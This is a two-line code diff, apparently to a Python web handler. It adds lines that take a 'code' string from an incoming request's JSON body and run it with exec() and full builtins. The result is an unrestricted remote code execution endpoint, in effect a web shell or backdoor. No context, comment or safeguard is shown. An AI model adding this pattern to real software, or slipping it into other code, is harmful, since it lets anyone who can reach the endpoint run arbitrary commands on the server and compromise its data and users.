@@ -1,0 +1,2 @@
+code = request.json["code"]
+exec(code, {"__builtins__": __builtins__})
